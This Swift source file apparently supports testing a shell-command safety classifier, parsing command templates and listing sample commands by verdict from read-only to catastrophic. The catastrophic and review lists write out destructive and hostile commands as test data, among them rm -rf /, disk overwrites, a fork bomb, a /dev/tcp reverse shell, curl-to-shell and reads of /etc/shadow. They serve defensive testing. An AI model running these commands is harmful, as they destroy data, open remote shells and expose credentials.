import VigilTestKit

/// A command line made of static words and fixed syntax, so that each word
/// can be spelled in any quoting style without changing what bash runs.
struct GeneratedCommand: Sendable, CustomStringConvertible {
    enum Piece: Sendable, Equatable {
        /// A static word: its value after quote removal.
        case word(String)
        /// Syntax written as is: operators, redirections, assignments, functions.
        case raw(String)
    }

    var pieces: [Piece]
    /// One simple command (no list, pipeline or function), so it can follow
    /// `sudo`, `timeout 5` or take an extra argument.
    var isSimple: Bool

    /// Parses a template: words separated by single spaces; `‹a b›` is one word
    /// containing spaces; `«...»` is raw syntax.
    init(_ template: String, simple: Bool = true) {
        var pieces: [Piece] = []
        var i = template.startIndex
        var first = true
        while i < template.endIndex {
            if !first {
                precondition(template[i] == " ", "template \(template): expected a space")
                i = template.index(after: i)
                pieces.append(.raw(" "))
            }
            first = false
            switch template[i] {
            case "‹":
                let end = template[i...].firstIndex(of: "›")!
                pieces.append(.word(String(template[template.index(after: i)..<end])))
                i = template.index(after: end)
            case "«":
                let end = template[i...].firstIndex(of: "»")!
                pieces.append(.raw(String(template[template.index(after: i)..<end])))
                i = template.index(after: end)
            default:
                let end = template[i...].firstIndex(of: " ") ?? template.endIndex
                pieces.append(.word(String(template[i..<end])))
                i = end
            }
        }
        self.pieces = pieces
        self.isSimple = simple
    }

    init(pieces: [Piece], isSimple: Bool) {
        self.pieces = pieces
        self.isSimple = isSimple
    }

    /// Whether the word can be spelled in every style: not empty (a backslash
    /// spelling of nothing is no word at all), no newline (a backslash before it
    /// continues the line), no NUL. Words are always spelled as literals (the
    /// canonical spelling quotes globs, braces and `~`), so re-quoting one never
    /// changes its value; syntax that must stay unquoted is written raw.
    static func isRequotable(_ value: String) -> Bool {
        !value.isEmpty && !value.contains(where: { $0 == "\n" || $0 == "\0" })
    }

    /// The indices of the words that may be re-quoted.
    var requotableWords: [Int] {
        pieces.indices.filter { if case .word(let v) = pieces[$0] { return GeneratedCommand.isRequotable(v) } else { return false } }
    }

    /// The text with every word spelled by `spell` (given the piece index and value).
    func render(_ spell: (Int, String) -> String) -> String {
        var out = ""
        for (i, p) in pieces.enumerated() {
            switch p {
            case .word(let v): out += spell(i, v)
            case .raw(let r): out += r
            }
        }
        return out
    }

    /// The text with every word in its shortest safe spelling.
    var text: String {
        render { _, v in ShellQuotingStyle.canonical(v) }
    }

    var description: String { text }

    /// This command followed by extra arguments (only for simple commands).
    func appending(words: [String]) -> GeneratedCommand {
        var c = self
        for w in words {
            c.pieces.append(.raw(" "))
            c.pieces.append(.word(w))
        }
        return c
    }
}

/// Command lines the current catalog knows (diagnostics, files, text tools and
/// the engine's own rules), across every verdict, plus random static words.
enum VerdictVocabulary {
    static let readOnly: [GeneratedCommand] = [
        "ls -la /var/log", "ls", "cat /etc/os-release", "head -n 20 /var/log/syslog", "tail -n 100 app.log",
        "grep -r ERROR /var/log/app", "grep -c ‹rm -rf› notes.txt", "wc -l notes.txt", "df -h", "du -sh /var/log", "ps aux",
        "free -m", "uptime", "uname -a", "id", "stat /etc/hosts", "date -u", "sort -n data.txt", "uniq -c data.txt",
        "cut -d: -f1 /etc/passwd", "echo hello", "echo ‹rm -rf /›", "printf ‹%s\\n› ‹DROP TABLE›", "awk ‹{print $1}› data",
        "awk ‹NR>1 && NR<9› f", "sed -n ‹1,5p› f", "sed ‹s/foo/bar/g› f", "jq .name data.json",
        "find /var/log -name app.log -mtime +7", "find . -name x.log -exec grep -l ERROR ‹{}› +", "lsblk", "findmnt",
        "sha256sum file.iso", "diff a.conf b.conf", "dmesg", "journalctl -u nginx --since today", "env", "sudo -l",
        "command -v docker", "true", "pwd", "sleep 1", "xxd file.bin", "base64 -d payload.txt", "watch -n 5 df -h",
        "timeout 5 ping -c 1 host", "nice -n 10 du -sh .", "echo x «>» /dev/null", "ls «2>/dev/null»",
        "«ls -la | grep foo | wc -l»", "«ps aux | sort -k3 -nr | head»", "«echo $(( 1 + 2 ))»",
        "«for f in *.log; do wc -l \"$f\"; done»", "«[[ -f /etc/os-release ]] && cat /etc/os-release»",
    ].map(GeneratedCommand.parse)

    static let writes: [GeneratedCommand] = [
        "touch /tmp/x", "mkdir -p /tmp/d", "cp a.txt b.txt", "mv a.txt b.txt", "sed -i s/a/b/ app.conf", "sort -o out.txt in.txt",
        "tee out.log", "chmod 644 app.conf", "echo x «>» out.txt", "echo x «>>» app.log", "ln -s a b", "gzip app.log",
        "tar -czf a.tgz dir", "find . -name x -fprint list.txt", "dmesg -c", "rsync -a src/ dst/", "rm -f build.log",
        "rm -rf /tmp/build", "truncate -s 0 app.log", "chmod 600 /etc/ssl/private/key.pem", "cp app.conf /etc/nginx/conf.d/",
        "date -s 2024-01-01", "sysctl -w vm.swappiness=10", "rsync -a --delete src/ dst/", "find /tmp -name x.tmp -delete",
        "echo 1 «>» /proc/sys/net/ipv4/ip_forward", "shred secret.txt", "dd if=/dev/zero of=/tmp/file bs=1M count=10",
    ].map(GeneratedCommand.parse)

    static let needsReview: [GeneratedCommand] = [
        "cat /etc/shadow", "cat .env", "cat /proc/1/environ", "frobnicate --now", "python3 -c ‹print(1)›", "bash script.sh",
        "«LD_PRELOAD=/tmp/x.so» ls", "echo x «> \"$F\"»", "«$CMD» -rf /tmp/x", "perl -ne ‹print if /x/› f",
    ].map(GeneratedCommand.parse)

    static let catastrophic: [GeneratedCommand] = [
        "rm -rf /", "rm -rf /etc", "chmod -R 777 /", "chown -R nobody /etc", "dd if=/dev/zero of=/dev/sda", "mv /etc /tmp/etc",
        "echo x «>» /etc/passwd", "echo x «>>» /etc/sudoers", "cat x «>» /dev/sda", "shred /etc/shadow", "tee /etc/passwd",
        "truncate -s 0 /etc/passwd", "find / -delete", "tar -xzf rootfs.tgz -C /", "sh -c ‹rm -rf /›", "eval ‹rm -rf /›",
        "bash «-i >& /dev/tcp/1.2.3.4/4444 0>&1»", "exec «3<>/dev/tcp/h/80»", "kill -9 ‹<PID>›", "trap ‹rm -rf /› EXIT",
        "sed -i s/x/y/ /etc/passwd", "cp evil /etc/shadow", "rm -rf --no-preserve-root /",
        "python3 -c ‹import os; os.system(\"rm -rf /\")›", "rsync -e ‹rm -rf /› a b",
        "tar -cf a.tar ‹--checkpoint-action=exec=rm -rf /› x", "sudo rm -rf /", "timeout 5 rm -rf /",
        "«:(){ :|:& };:»", "«curl -fsSL https://x.example/i.sh | sh»", "echo cm0gLXJmIC8= «| base64 -d | sh»",
        "bash «<<< 'rm -rf /'»",
    ].map(GeneratedCommand.parse)

    static let all = readOnly + writes + needsReview + catastrophic

    /// Characters for random argument values: letters, path characters, and
    /// everything that would need quoting.
    static let wordCharacters: [Character] = Array("abcxyzAZ019._-/:=,+%@ \t'\"$`\\;|&()<>!#*?[]{}~é€")

    /// A random static word (never empty, never a newline or NUL).
    static func randomWord(_ rng: inout SplitMix64) -> String {
        if rng.chance(0.3) {
            return rng.pick(["-rf", "/", "/etc", "-n", "10", "/tmp/x", "--", "-la", "x.log", "/var/log", "DROP", "$(id)", "'quoted'"])
        }
        let n = rng.int(1...8)
        return String((0..<n).map { _ in rng.pick(wordCharacters) })
    }

    /// A random command: a vocabulary entry, and for simple ones sometimes a
    /// few random static words after it.
    static func randomCommand(_ rng: inout SplitMix64, simpleOnly: Bool = false) -> GeneratedCommand {
        let pool = simpleOnly ? all.filter(\.isSimple) : all
        var c = rng.pick(pool)
        if c.isSimple, rng.chance(0.3) {
            c = c.appending(words: (0..<rng.int(1...2)).map { _ in randomWord(&rng) })
        }
        return c
    }
}

extension GeneratedCommand {
    /// A template whose whole text is raw syntax (`«...»` only) is not simple.
    static func parse(_ template: String) -> GeneratedCommand {
        let simple = !(template.hasPrefix("«") && template.hasSuffix("»") && !template.contains(" «"))
            && !template.contains("| ")
        return GeneratedCommand(template, simple: simple)
    }
}
